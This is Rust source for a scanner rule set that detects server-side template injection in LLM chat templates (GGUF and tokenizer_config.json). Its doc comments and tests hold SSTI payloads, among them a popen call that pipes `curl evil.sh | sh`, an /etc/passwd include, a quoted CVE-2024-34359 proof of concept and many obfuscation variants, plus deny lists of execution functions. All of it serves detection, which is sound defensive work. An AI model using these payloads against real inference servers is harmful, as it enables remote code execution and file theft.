//! Rules for Jinja2 chat templates (GGUF `tokenizer.chat_template*` keys,
//! Hugging Face `tokenizer_config.json` `chat_template`).
//!
//! A chat template is a program: inference servers render it with Jinja2 for
//! every request. Only the code inside `{{ }}` and `{% %}` runs, so the
//! template is split the way Jinja's lexer splits it (strings, brackets,
//! comments and `raw` blocks included) and only those tokens are judged;
//! prose around them, however alarming, is output text.

use crate::{Ctx, Report};
use mlsec_core::{declare_rule, Rule, Severity};
use mlsec_formats::jinja::{lex, Tag, Tok, Token};
use serde_json::json;
use std::collections::BTreeMap;

declare_rule! {
    /// ## What it does
    /// Flags a chat template whose code reaches Python internals: dunder
    /// attributes (`__class__`, `__mro__`, `__subclasses__`, `__globals__`,
    /// `__builtins__`, `__init__`, `__import__`, ...), private attributes
    /// (`._TemplateReference__context`), `request.application`, or strings that
    /// hold such names (`'__globals__'`, `"{0.__class__}"`).
    ///
    /// ## Why is this bad?
    /// This is server-side template injection. From any object, a Jinja
    /// expression can climb `__class__.__mro__` to `object`, list
    /// `__subclasses__()`, and reach a function's `__globals__`, whose
    /// `__builtins__` hold `__import__` and `eval`. llama-cpp-python rendered
    /// GGUF templates with a plain `jinja2.Environment` and ran such code when a
    /// model was loaded and chatted with (CVE-2024-34359); vLLM and SGLang had
    /// the same flaw. No real chat template touches these names.
    ///
    /// Hugging Face transformers renders `tokenizer_config.json` templates in
    /// Jinja's sandbox, which blocks underscore attributes, so there the finding
    /// is reported as high rather than critical: the intent is plain, the
    /// sandbox has had escapes (CVE-2024-56326, CVE-2025-27516), and the same
    /// template is copied into GGUF files by conversion scripts.
    ///
    /// ## Example
    /// ```jinja
    /// {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
    /// ```
    ///
    /// ## How to fix
    /// Do not load the model. Take the chat template from the original model
    /// publisher, and render templates only in a sandboxed environment
    /// (`jinja2.sandbox.ImmutableSandboxedEnvironment`).
    pub const PYTHON_INTERNALS = Rule {
        id: "TPL001", name: "template-python-internals", severity: Critical, category: Malicious,
        summary: "Chat template code reaches Python internals (template injection)",
    };
}

declare_rule! {
    /// ## What it does
    /// Flags a chat template that builds attribute names instead of writing
    /// them: `|attr(...)` with a computed name, strings that are pieces of a
    /// dunder (`'__cla' ~ 'ss__'`, `['_','_','class','_','_']|join`), escapes
    /// that spell letters or underscores (`'\x5f\x5fclass\x5f\x5f'`,
    /// `'\N{LOW LINE}'`), `%c` format strings fed to `|format`, a reference to a
    /// string's `format` method kept for later, or the `attr` filter passed by name.
    ///
    /// ## Why is this bad?
    /// These are the ways to reach Python internals while hiding the names a
    /// reviewer or scanner looks for, and the shapes of the known Jinja
    /// sandbox escapes (a stored `str.format` reference, CVE-2024-56326;
    /// `|attr('format')`, CVE-2025-27516). Real chat templates spell every
    /// attribute out and never escape ordinary letters.
    ///
    /// ## Example
    /// ```jinja
    /// {{ ()|attr('__cla' ~ 'ss__')|attr('__base__') }}
    /// ```
    ///
    /// ## How to fix
    /// Do not load the model; take the chat template from the original
    /// publisher, and render templates only in a sandboxed environment.
    pub const OBFUSCATED_NAME = Rule {
        id: "TPL002", name: "template-obfuscated-attribute", severity: Critical, category: Malicious,
        summary: "Chat template builds or hides attribute names (template injection)",
    };
}

declare_rule! {
    /// ## What it does
    /// Flags a chat template that names ways to run commands or code: `os.`,
    /// `popen`, `subprocess`, `.system(`, `eval(`, `exec(`, `compile(`,
    /// `open(`, `getattr(`, `import_module`, `builtins`, `check_output`, or
    /// `|attr` with such a name.
    ///
    /// ## Why is this bad?
    /// A template is rendered on the inference server for every chat request;
    /// these names are how an injected template turns into a shell command or
    /// a file read on that server. None of them belongs in a chat template.
    ///
    /// ## Example
    /// ```jinja
    /// {{ cycler.__init__.__globals__.os.popen('curl evil.sh | sh').read() }}
    /// ```
    ///
    /// ## How to fix
    /// Do not load the model; take the chat template from the original
    /// publisher, and render templates only in a sandboxed environment.
    pub const DANGEROUS_CALL = Rule {
        id: "TPL003", name: "template-dangerous-call", severity: Critical, category: Malicious,
        summary: "Chat template names command or code execution functions",
    };
}

declare_rule! {
    /// ## What it does
    /// Flags a chat template that loads other templates: `{% include %}`,
    /// `{% import %}`, `{% from ... import %}` or `{% extends %}`.
    ///
    /// ## Why is this bad?
    /// Chat templates are self-contained. Loading another template makes the
    /// renderer read a file through whatever loader the server configured,
    /// which can disclose files or pull in code that was never reviewed.
    ///
    /// ## Example
    /// ```jinja
    /// {% include '/etc/passwd' %}
    /// ```
    ///
    /// ## How to fix
    /// Inline what the template needs, or take the chat template from the
    /// original publisher.
    pub const LOADS_TEMPLATES = Rule {
        id: "TPL004", name: "template-loads-templates", severity: High, category: Suspicious,
        summary: "Chat template includes, imports or extends other templates",
    };
}

pub const RULES: &[Rule] = &[
    PYTHON_INTERNALS,
    OBFUSCATED_NAME,
    DANGEROUS_CALL,
    LOADS_TEMPLATES,
];

/// Where a template was found.
pub struct TemplateSite<'a> {
    /// The key that holds it, e.g. `tokenizer.chat_template`.
    pub key: &'a str,
    /// File offset of the template's first byte, when it is stored verbatim.
    pub offset: Option<u64>,
    /// True where the usual renderer is Jinja's sandbox (transformers).
    pub sandboxed: bool,
}

/// Judges one chat template and reports what its code reaches.
pub fn check(ctx: &Ctx, site: &TemplateSite, template: &str, report: &mut Report) {
    let mut by_rule: BTreeMap<&'static str, (Rule, Vec<Marker>)> = BTreeMap::new();
    for m in markers(template) {
        by_rule
            .entry(m.rule.id)
            .or_insert_with(|| (m.rule, Vec::new()))
            .1
            .push(m);
    }
    for (_, (rule, mut found)) in by_rule {
        found.sort_by_key(|m| m.pos);
        found.dedup_by(|a, b| a.what == b.what);
        let shown: Vec<&str> = found.iter().take(8).map(|m| m.what.as_str()).collect();
        let first = found.first().map_or(0, |m| m.pos);
        let message = format!(
            "chat template `{}` {}: {}{}",
            site.key,
            rule_phrase(&rule),
            shown.join(", "),
            if found.len() > shown.len() {
                ", ..."
            } else {
                ""
            }
        );
        let mut finding = ctx
            .finding(&rule, site.offset.map(|o| o + first as u64), message)
            .with_evidence(json!({
                "template_key": site.key,
                "markers": found.iter().take(32).map(|m| json!({"marker": m.what, "position": m.pos})).collect::<Vec<_>>(),
                "renderer_sandboxed": site.sandboxed,
            }));
        if site.sandboxed {
            finding = finding.with_severity(match rule.severity {
                Severity::Critical => Severity::High,
                _ => Severity::Medium,
            });
        }
        report.push(finding);
    }
}

fn rule_phrase(rule: &Rule) -> &'static str {
    match rule.id {
        "TPL001" => "reaches Python internals",
        "TPL002" => "hides or builds attribute names",
        "TPL003" => "names command or code execution",
        _ => "loads other templates",
    }
}

/// One suspicious thing in a template: what, where (byte position), which rule.
#[derive(Debug, Clone)]
struct Marker {
    rule: Rule,
    what: String,
    pos: usize,
}

/// Python attributes that lead from any object to code execution.
const PYTHON_INTERNAL_NAMES: &[&str] = &[
    "__class__",
    "__mro__",
    "__subclasses__",
    "__globals__",
    "__builtins__",
    "__init__",
    "__import__",
    "__base__",
    "__bases__",
    "__dict__",
    "__getattribute__",
    "__getattr__",
    "__getitem__",
    "__code__",
    "__func__",
    "__self__",
    "__loader__",
    "__spec__",
    "__reduce__",
    "__reduce_ex__",
    "__closure__",
    "__module__",
    "__qualname__",
    "__call__",
    "__new__",
    "__subclasshook__",
];

/// Names of functions that run commands or code, or fetch attributes by name.
const DANGEROUS_NAMES: &[&str] = &[
    "popen",
    "subprocess",
    "import_module",
    "builtins",
    "check_output",
    "check_call",
    "getoutput",
    "getstatusoutput",
    "spawnl",
    "spawnv",
    "execl",
    "execv",
    "execve",
];

/// Names that are dangerous when called directly: `eval(...)`.
const DANGEROUS_CALLS: &[&str] = &[
    "eval", "exec", "compile", "open", "getattr", "setattr", "delattr", "globals", "locals",
];

fn markers(template: &str) -> Vec<Marker> {
    let mut out = Vec::new();
    for tag in lex(template) {
        judge_tag(&tag, &mut out);
    }
    out
}

fn is_dunder(name: &str) -> bool {
    name.len() > 4 && name.starts_with("__") && name.ends_with("__")
}

/// A dangerous dunder inside a string, unless it only appears as a word of
/// prose (after whitespace): `'__class__'` and `"{0.__class__}"` count,
/// `"call the __init__ method"` does not.
fn internal_name_in(s: &str) -> Option<&'static str> {
    PYTHON_INTERNAL_NAMES.iter().copied().find(|name| {
        s.match_indices(name).any(|(at, _)| {
            s.get(..at)
                .and_then(|before| before.chars().next_back())
                .is_none_or(|c| !c.is_whitespace())
        })
    })
}

fn judge_tag(tag: &Tag, out: &mut Vec<Marker>) {
    let t = &tag.tokens;
    let name_at = |k: usize| match t.get(k) {
        Some(Token {
            tok: Tok::Name(n), ..
        }) => Some(n.as_str()),
        _ => None,
    };
    let op_at = |k: usize| match t.get(k) {
        Some(Token {
            tok: Tok::Op(c), ..
        }) => Some(*c),
        _ => None,
    };
    let mut push = |rule: Rule, what: String, pos: usize| out.push(Marker { rule, what, pos });

    if tag.block {
        if let Some(Token {
            tok: Tok::Name(first),
            pos,
        }) = t.first()
        {
            if matches!(first.as_str(), "include" | "import" | "from" | "extends") {
                push(LOADS_TEMPLATES, format!("{{% {first} %}}"), *pos);
            }
        }
    }
    let uses_format_filter = t
        .iter()
        .zip(t.iter().skip(1))
        .any(|(a, b)| a.tok == Tok::Op('|') && b.tok == Tok::Name("format".into()));

    for (k, token) in t.iter().enumerate() {
        let prev_dot = k > 0 && op_at(k - 1) == Some('.');
        let prev_pipe = k > 0 && op_at(k - 1) == Some('|');
        let called = op_at(k + 1) == Some('(');
        match &token.tok {
            Tok::Name(n) => {
                if is_dunder(n) {
                    push(PYTHON_INTERNALS, n.clone(), token.pos);
                } else if prev_dot && n.starts_with('_') {
                    push(PYTHON_INTERNALS, format!(".{n}"), token.pos);
                }
                if n == "request"
                    && op_at(k + 1) == Some('.')
                    && name_at(k + 2) == Some("application")
                {
                    push(PYTHON_INTERNALS, "request.application".into(), token.pos);
                }
                if DANGEROUS_NAMES.contains(&n.as_str())
                    || (n == "os" && op_at(k + 1) == Some('.'))
                    || (n == "system" && prev_dot && called)
                    || (DANGEROUS_CALLS.contains(&n.as_str()) && called && !prev_dot && !prev_pipe)
                {
                    push(DANGEROUS_CALL, n.clone(), token.pos);
                }
                if (n == "format" || n == "format_map") && prev_dot && !called {
                    push(OBFUSCATED_NAME, format!("stored .{n} reference"), token.pos);
                }
                if n == "attr" && prev_pipe {
                    judge_attr_filter(t, k, token.pos, &mut push);
                }
            }
            Tok::Str {
                value,
                hides_letters,
            } => {
                if *hides_letters {
                    push(
                        OBFUSCATED_NAME,
                        format!("escaped letters in {}", quoted(value)),
                        token.pos,
                    );
                }
                if let Some(name) = internal_name_in(value) {
                    push(PYTHON_INTERNALS, quoted(name), token.pos);
                } else if is_dunder_fragment(value) {
                    push(
                        OBFUSCATED_NAME,
                        format!("dunder fragment {}", quoted(value)),
                        token.pos,
                    );
                }
                if matches!(
                    value.as_str(),
                    "os" | "eval" | "exec" | "getattr" | "__import__"
                ) || DANGEROUS_NAMES.contains(&value.as_str())
                {
                    push(DANGEROUS_CALL, quoted(value), token.pos);
                }
                if value == "attr" {
                    push(
                        OBFUSCATED_NAME,
                        "attr filter passed by name".into(),
                        token.pos,
                    );
                }
                if uses_format_filter && value.contains("%c") {
                    push(
                        OBFUSCATED_NAME,
                        format!("%c format string {}", quoted(value)),
                        token.pos,
                    );
                }
            }
            Tok::Op(_) | Tok::Num(_) => {}
        }
    }
    for (computed, pos) in folded_strings(t) {
        if let Some(name) = internal_name_in(&computed) {
            push(
                OBFUSCATED_NAME,
                format!("{} computed from pieces", quoted(name)),
                pos,
            );
        } else if DANGEROUS_NAMES.contains(&computed.as_str())
            || matches!(computed.as_str(), "os" | "eval" | "exec")
        {
            push(
                DANGEROUS_CALL,
                format!("{} computed from pieces", quoted(&computed)),
                pos,
            );
        }
    }
}

/// `'__cla'`, `'ss__'`, `'__'`: a piece of an identifier with a dunder end.
fn is_dunder_fragment(s: &str) -> bool {
    (s.starts_with("__") || s.ends_with("__"))
        && s.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// `x|attr(...)` at `k` (the `attr` name, at `pos`): a single plain string is
/// judged as a name; anything computed hides the name.
fn judge_attr_filter(
    t: &[Token],
    k: usize,
    pos: usize,
    push: &mut impl FnMut(Rule, String, usize),
) {
    let arg = match (t.get(k + 1), t.get(k + 2), t.get(k + 3)) {
        (
            Some(Token {
                tok: Tok::Op('('), ..
            }),
            Some(Token {
                tok: Tok::Str { value, .. },
                ..
            }),
            Some(Token {
                tok: Tok::Op(')'), ..
            }),
        ) => Some(value.as_str()),
        _ => None,
    };
    match arg {
        None => push(OBFUSCATED_NAME, "|attr with a computed name".into(), pos),
        Some(name) if name.starts_with('_') && internal_name_in(name).is_none() => {
            push(PYTHON_INTERNALS, format!("|attr({})", quoted(name)), pos)
        }
        Some(name @ ("format" | "format_map")) => {
            push(OBFUSCATED_NAME, format!("|attr({})", quoted(name)), pos)
        }
        Some(name)
            if DANGEROUS_NAMES.contains(&name)
                || DANGEROUS_CALLS.contains(&name)
                || matches!(name, "os" | "system") =>
        {
            push(DANGEROUS_CALL, format!("|attr({})", quoted(name)), pos)
        }
        Some(_) => {}
    }
}

/// A constant value being folded: a string, or a list of strings.
#[derive(Clone)]
enum Folded {
    Str(String),
    List(Vec<String>),
}

/// Longest folded value kept; longer ones are no attribute name anyway.
const MAX_FOLDED: usize = 4096;

/// Constant string expressions, computed the way Jinja would: literals joined
/// by `~`, `+` or adjacency, repeated with `*`, lists of literals, then put
/// through string filters and methods (`join`, `replace`, `reverse`, `lower`,
/// `upper`, `format`, `list`, `string`). Returns each result that is not just
/// a plain literal, with the position of its first token.
fn folded_strings(t: &[Token]) -> Vec<(String, usize)> {
    let mut out = Vec::new();
    let mut k = 0;
    while let Some(head) = t.get(k) {
        let start = k;
        let Some((mut value, mut next, mut computed)) = fold_operand(t, k) else {
            k += 1;
            continue;
        };
        loop {
            let (name, args_at) = match (op_at(t, next), name_at(t, next + 1)) {
                (Some('|'), Some(filter)) => (filter, next + 2),
                (Some('.'), Some(method)) if op_at(t, next + 2) == Some('(') => (method, next + 2),
                _ => break,
            };
            let (args, after) = call_args(t, args_at);
            match apply(name, value.clone(), &args) {
                Some(v) => value = v,
                None => break,
            }
            computed = true;
            next = after;
        }
        if computed {
            let text = match value {
                Folded::Str(s) => s,
                Folded::List(items) => items.concat(),
            };
            out.push((text, head.pos));
        }
        k = next.max(start + 1);
    }
    out
}

fn str_at(t: &[Token], k: usize) -> Option<&str> {
    match t.get(k) {
        Some(Token {
            tok: Tok::Str { value, .. },
            ..
        }) => Some(value),
        _ => None,
    }
}

fn op_at(t: &[Token], k: usize) -> Option<char> {
    match t.get(k) {
        Some(Token {
            tok: Tok::Op(c), ..
        }) => Some(*c),
        _ => None,
    }
}

fn name_at(t: &[Token], k: usize) -> Option<&str> {
    match t.get(k) {
        Some(Token {
            tok: Tok::Name(n), ..
        }) => Some(n),
        _ => None,
    }
}

fn num_at(t: &[Token], k: usize) -> Option<u64> {
    match t.get(k) {
        Some(Token {
            tok: Tok::Num(n), ..
        }) => n.replace('_', "").parse().ok(),
        _ => None,
    }
}

/// A string expression or list of string literals at `k`: its value, the
/// index after it, and whether it was computed (more than one literal).
fn fold_operand(t: &[Token], k: usize) -> Option<(Folded, usize, bool)> {
    if let Some(first) = str_at(t, k) {
        let mut joined = first.to_string();
        let mut next = k + 1;
        let mut computed = false;
        loop {
            if let Some(s) = str_at(t, next) {
                joined.push_str(s);
                next += 1;
            } else if let (Some('~' | '+'), Some(s)) = (op_at(t, next), str_at(t, next + 1)) {
                joined.push_str(s);
                next += 2;
            } else if let (Some('*'), Some(n)) = (op_at(t, next), num_at(t, next + 1)) {
                let n = usize::try_from(n).unwrap_or(usize::MAX);
                let limit = MAX_FOLDED / joined.len().max(1);
                joined = joined.repeat(n.min(limit));
                next += 2;
            } else {
                break;
            }
            computed = true;
            if joined.len() > MAX_FOLDED {
                break;
            }
        }
        return Some((Folded::Str(joined), next, computed));
    }
    if op_at(t, k) == Some('[') {
        let mut items = Vec::new();
        let mut next = k + 1;
        while let Some(s) = str_at(t, next) {
            items.push(s.to_string());
            next += 1;
            if op_at(t, next) == Some(',') {
                next += 1;
            }
        }
        if op_at(t, next) == Some(']') && !items.is_empty() {
            return Some((Folded::List(items), next + 1, false));
        }
    }
    None
}

/// Constant arguments of a call at `k` (`(` ... `)`), and the index after it;
/// no arguments and `k` itself when there are no parentheses.
fn call_args(t: &[Token], k: usize) -> (Vec<String>, usize) {
    if op_at(t, k) != Some('(') {
        return (Vec::new(), k);
    }
    let mut args = Vec::new();
    let mut next = k + 1;
    loop {
        if let Some(s) = str_at(t, next) {
            args.push(s.to_string());
        } else if let Some(n) = num_at(t, next) {
            args.push(n.to_string());
        } else {
            break;
        }
        next += 1;
        if op_at(t, next) == Some(',') {
            next += 1;
        }
    }
    if op_at(t, next) == Some(')') {
        (args, next + 1)
    } else {
        // Not all constant: the result is unknown.
        (vec!["\u{0}".into()], next)
    }
}

/// Applies a string filter or method to a constant; `None` when unknown.
fn apply(name: &str, value: Folded, args: &[String]) -> Option<Folded> {
    let size = match &value {
        Folded::Str(s) => s.len(),
        Folded::List(items) => items.iter().map(String::len).sum(),
    };
    // Past the cap a value is no attribute name; refusing here also keeps
    // `replace`, `join` and `format` from blowing small inputs up.
    let longest_arg = args.iter().map(String::len).max().unwrap_or(0);
    if size > MAX_FOLDED || longest_arg > MAX_FOLDED || args.iter().any(|a| a == "\u{0}") {
        return None;
    }
    let text = |v: Folded| match v {
        Folded::Str(s) => s,
        Folded::List(items) => items.concat(),
    };
    let out = match (name, value) {
        ("join", v) => {
            let sep = args.first().map_or("", String::as_str);
            let items = match v {
                Folded::List(items) => items,
                Folded::Str(s) => s.chars().map(String::from).collect(),
            };
            if items.len().saturating_mul(sep.len()) > MAX_FOLDED {
                return None;
            }
            Folded::Str(items.join(sep))
        }
        ("list", Folded::Str(s)) => Folded::List(s.chars().map(String::from).collect()),
        ("reverse", Folded::Str(s)) => Folded::Str(s.chars().rev().collect()),
        ("reverse", Folded::List(mut items)) => {
            items.reverse();
            Folded::List(items)
        }
        ("string", v) => Folded::Str(text(v)),
        ("lower", v) => Folded::Str(text(v).to_lowercase()),
        ("upper", v) => Folded::Str(text(v).to_uppercase()),
        ("replace", v) => match args {
            [from, to, ..] if !from.is_empty() => {
                let t = text(v);
                let grows = t.matches(from.as_str()).count().saturating_mul(to.len());
                if grows > MAX_FOLDED {
                    return None;
                }
                Folded::Str(t.replace(from.as_str(), to))
            }
            _ => return None,
        },
        ("format", v) => Folded::Str(format_constant(&text(v), args)),
        _ => return None,
    };
    match &out {
        Folded::Str(s) if s.len() > MAX_FOLDED => None,
        _ => Some(out),
    }
}

/// `%s`/`%c`/`%d` (the `format` filter) and `{}`/`{N}` (`str.format`) substitution.
fn format_constant(fmt: &str, args: &[String]) -> String {
    let mut out = String::new();
    let mut next_arg = args.iter();
    let mut chars = fmt.chars().peekable();
    while let Some(c) = chars.next() {
        if out.len() > MAX_FOLDED {
            break;
        }
        match (c, chars.peek().copied()) {
            ('%', Some('s' | 'd')) => {
                chars.next();
                out.push_str(next_arg.next().map_or("", String::as_str));
            }
            ('%', Some('c')) => {
                chars.next();
                let code = next_arg.next().and_then(|a| a.parse::<u32>().ok());
                out.extend(code.and_then(char::from_u32));
            }
            ('{', Some(d)) if d == '}' || d.is_ascii_digit() => {
                let mut index = String::new();
                while let Some(d) = chars.next_if(char::is_ascii_digit) {
                    index.push(d);
                }
                if chars.next_if_eq(&'}').is_none() {
                    out.push('{');
                    out.push_str(&index);
                    continue;
                }
                let arg = match index.parse::<usize>() {
                    Ok(i) => args.get(i),
                    Err(_) => next_arg.next(),
                };
                out.push_str(arg.map_or("", String::as_str));
            }
            _ => out.push(c),
        }
    }
    out
}

fn quoted(s: &str) -> String {
    let short: String = s.chars().take(60).collect();
    format!(
        "'{}'{}",
        short,
        if short.len() < s.len() { "..." } else { "" }
    )
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::ScanConfig;

    /// Real chat templates, as published in the models' tokenizer configs.
    pub const BENIGN: &[(&str, &str)] = &[
        ("llama-2", include_str!("testdata/templates/llama2.jinja")),
        ("llama-3", include_str!("testdata/templates/llama3.jinja")),
        (
            "llama-3.1-tools",
            include_str!("testdata/templates/llama3_1.jinja"),
        ),
        (
            "chatml-qwen2",
            include_str!("testdata/templates/qwen2.jinja"),
        ),
        (
            "qwen2.5-tools",
            include_str!("testdata/templates/qwen2_5.jinja"),
        ),
        (
            "mistral-v0.3",
            include_str!("testdata/templates/mistral_v0_3.jinja"),
        ),
        ("gemma", include_str!("testdata/templates/gemma.jinja")),
        ("phi-3", include_str!("testdata/templates/phi3.jinja")),
        (
            "deepseek-r1",
            include_str!("testdata/templates/deepseek_r1.jinja"),
        ),
        ("zephyr", include_str!("testdata/templates/zephyr.jinja")),
    ];

    fn judge(template: &str, sandboxed: bool) -> Report {
        let config = ScanConfig::default();
        let ctx = Ctx::new(&config, "model.gguf", None);
        let mut report = Report::default();
        let site = TemplateSite {
            key: "tokenizer.chat_template",
            offset: Some(100),
            sandboxed,
        };
        check(&ctx, &site, template, &mut report);
        report
    }

    fn rules_hit(template: &str) -> Vec<&'static str> {
        let mut ids: Vec<_> = markers(template).iter().map(|m| m.rule.id).collect();
        ids.sort_unstable();
        ids.dedup();
        ids
    }

    #[test]
    fn real_templates_are_clean() {
        for (name, template) in BENIGN {
            assert!(template.len() > 100, "{name} fixture is empty");
            let found = markers(template);
            assert!(found.is_empty(), "{name}: {found:?}");
        }
    }

    #[test]
    fn prose_outside_tags_and_in_comments_is_not_code() {
        for t in [
            "System: never run {# __import__('os').popen #} os.system or __class__ tricks.",
            "{% raw %}{{ ''.__class__.__mro__ }}{% endraw %}{{ messages[0]['content'] }}",
            "{%- raw -%}{{ cycler.__init__ }}{%- endraw -%}",
            "{{ 'Explain what the __init__ method of a class does.' }}",
            "{{ '}}' + message['content'] + \"{{ '__class__' }}\"[0:0] }}",
        ] {
            let found = markers(t);
            // The last one does hold '__class__' inside a code string: judged as code.
            if t.contains("[0:0]") {
                assert_eq!(rules_hit(t), ["TPL001"], "{t}");
            } else {
                assert!(found.is_empty(), "{t}: {found:?}");
            }
        }
    }

    #[test]
    fn classic_payloads() {
        for (t, rule) in [
            ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "TPL001"),
            ("{{ self.__init__.__globals__.__builtins__ }}", "TPL001"),
            ("{{ self._TemplateReference__context.cycler }}", "TPL001"),
            ("{{ request.application }}", "TPL001"),
            ("{{ lipsum['__globals__']['os'] }}", "TPL001"),
            ("{{ '{0.__class__.__base__}'.format(x) }}", "TPL001"),
            ("{{ x|attr('_private') }}", "TPL001"),
            (
                "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
                "TPL003",
            ),
            ("{{ joiner.x.os.system('id') }}", "TPL003"),
            ("{{ eval('1+1') }}", "TPL003"),
            ("{{ x|attr('popen') }}", "TPL003"),
            ("{% include 'secrets.txt' %}", "TPL004"),
            ("{{ x[('po' ~ 'pen')] }}", "TPL003"),
            ("{%- from 'macros.j2' import m -%}", "TPL004"),
        ] {
            assert!(rules_hit(t).contains(&rule), "{t}: {:?}", rules_hit(t));
        }
    }

    #[test]
    fn obfuscated_payloads() {
        for t in [
            "{{ ()|attr('__cla' ~ 'ss__') }}",
            "{{ ()|attr('__cla' + 'ss__') }}",
            "{{ ()|attr('__cla' 'ss__') }}",
            "{{ ()|attr(['_','_','class','_','_']|join) }}",
            "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
            "{{ ()|attr('\\u005f\\u005fclass\\u005f\\u005f') }}",
            "{{ ()|attr('\\137\\137class\\137\\137') }}",
            "{{ ()|attr('\\N{LOW LINE}\\N{LOW LINE}class\\N{LOW LINE}\\N{LOW LINE}') }}",
            "{% set a = 'cla' %}{{ ()|attr('__' ~ a ~ 'ss__') }}",
            "{{ ()|attr(name) }}",
            "{{ '%c%c%c%c%c%c%c%c%c'|format(95,95,99,108,97,115,115,95,95) }}",
            "{% set f = '{0}'.format %}{{ f }}",
            "{{ x|attr('format') }}",
            "{{ x|map('attr', n)|list }}",
            "{% set u = '_' * 2 %}{{ ()|attr(u ~ 'class' ~ u) }}{{ ()['_' * 2 ~ 'class' ~ '_' * 2] }}",
            "{{ ()|attr('xxclassxx'|replace('x', '_')) }}",
            "{{ ()|attr('__ssalc__'|reverse) }}",
            "{{ ()|attr('__CLASS__'|lower) }}",
            "{{ ()|attr('%s%sclass%s%s'|format('_', '_', '_', '_')) }}",
            "{{ ()|attr('{}{}class{}{}'.format('_', '_', '_', '_')) }}",
            "{{ ()|attr(['__', 'class', '__']|join('')) }}",
        ] {
            assert!(rules_hit(t).contains(&"TPL002"), "{t}: {:?}", rules_hit(t));
        }
    }

    #[test]
    fn the_cve_2024_34359_proof_of_concept() {
        let t = "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"touch /tmp/retr0reg\")}}{%endif%}{% endfor %}";
        let report = judge(t, false);
        let ids: Vec<_> = report.findings.iter().map(|f| f.rule.as_str()).collect();
        assert_eq!(ids, ["TPL001", "TPL003"]);
        let f = &report.findings[0];
        assert_eq!(f.severity, Severity::Critical);
        assert_eq!(f.offset, Some(100 + t.find("__class__").unwrap() as u64));
        assert!(f.message.contains("__subclasses__"), "{}", f.message);
        assert_eq!(f.evidence["template_key"], "tokenizer.chat_template");
    }

    #[test]
    fn sandboxed_renderers_lower_the_severity() {
        let report = judge("{{ ''.__class__ }}{% include 'x' %}", true);
        let sev: Vec<_> = report.findings.iter().map(|f| f.severity).collect();
        assert_eq!(sev, [Severity::High, Severity::Medium]);
    }

    #[test]
    fn hostile_template_text_does_not_panic() {
        for t in [
            "{{",
            "{%",
            "{#",
            "{{ '",
            "{{ \"\\",
            "{{ '\\x",
            "{{ '\\N{",
            "{{ '\\N{LOW",
            "{{ '\\777' }}",
            "{% raw %}",
            "{{ ((((( }}",
            "{{ ))))) }}",
            "{{ é.__class__ }}",
            "{{ x.\u{2028} }}",
            "{{ '\\u12' }}",
            "{{ '\\U0010ffff' }}",
            "{{ '\\ud800' }}",
            "{{'a'~}}",
            "{{ [ }}",
        ] {
            let _ = markers(t);
        }
        let deep = format!("{{{{ {} }}}}", "(".repeat(100_000));
        assert!(markers(&deep).is_empty());
        // Folding stays bounded however the pieces multiply.
        let big = "a".repeat(3000);
        let bomb = format!("{{{{ '{big}'|replace('a', '{big}')|replace('a', '{big}') }}}}{{{{ '{{0}}{{0}}{{0}}{{0}}'.format('{big}') }}}}{{{{ '{big}'|join('{big}') }}}}{{{{ 'ab' * 99999999999 }}}}");
        let _ = markers(&bomb);
    }
}

/// Judges a standalone chat template file (`chat_template.jinja`, which
/// transformers writes beside `tokenizer_config.json`): UTF-8 text that opens
/// with a Jinja tag and has a statement that walks `messages`. Returns whether
/// it was recognised.
pub fn probe_raw(ctx: &Ctx, data: &[u8], report: &mut Report) -> bool {
    if data.len() as u64 > ctx.limits().max_metadata_bytes {
        return false;
    }
    let Ok(text) = std::str::from_utf8(data) else {
        return false;
    };
    // Chat template files open with a Jinja tag; scripts that merely embed
    // templates (in strings) do not.
    let opens_with_tag = ["{%", "{{", "{#"]
        .iter()
        .any(|t| text.trim_start().starts_with(t));
    if !(opens_with_tag && text.contains("{%") && text.contains("messages")) {
        return false;
    }
    report.recognise("chat-template");
    let site = TemplateSite {
        key: "chat_template",
        offset: Some(0),
        sandboxed: true,
    };
    check(ctx, &site, text, report);
    true
}

#[cfg(test)]
mod raw_file_tests {
    use super::*;
    use crate::ScanConfig;
    use mlsec_core::Verdict;

    fn probe(data: &[u8]) -> (bool, Report) {
        let config = ScanConfig::default();
        let ctx = Ctx::new(&config, "chat_template.jinja", None);
        let mut report = Report::default();
        (probe_raw(&ctx, data, &mut report), report)
    }

    #[test]
    fn raw_chat_templates_are_judged() {
        let benign = include_str!("testdata/templates/llama3.jinja");
        let (recognised, report) = probe(benign.as_bytes());
        assert!(recognised);
        assert_eq!(report.verdict(), Verdict::Clean, "{:?}", report.findings);

        let evil = "{% for message in messages %}{{ message.__class__.__mro__[1].__subclasses__() }}{% endfor %}";
        let (recognised, report) = probe(evil.as_bytes());
        assert!(recognised);
        assert_eq!(report.verdict(), Verdict::Malicious);
        assert!(
            report.findings.iter().any(|f| f.rule == "TPL001"),
            "{:?}",
            report.findings
        );
    }

    #[test]
    fn other_text_is_left_alone() {
        for text in [
            &b"Release notes: new messages view\n"[..],
            b"{% raw %}no chat here{% endraw %}",
            b"\xff\xfe{%messages",
            b"TEMPLATE = '{% for message in messages %}{{ message.__class__ }}{% endfor %}'\n",
        ] {
            let (recognised, report) = probe(text);
            assert!(!recognised, "{text:?}");
            assert_eq!(report.verdict(), Verdict::Unsupported);
        }
    }
}
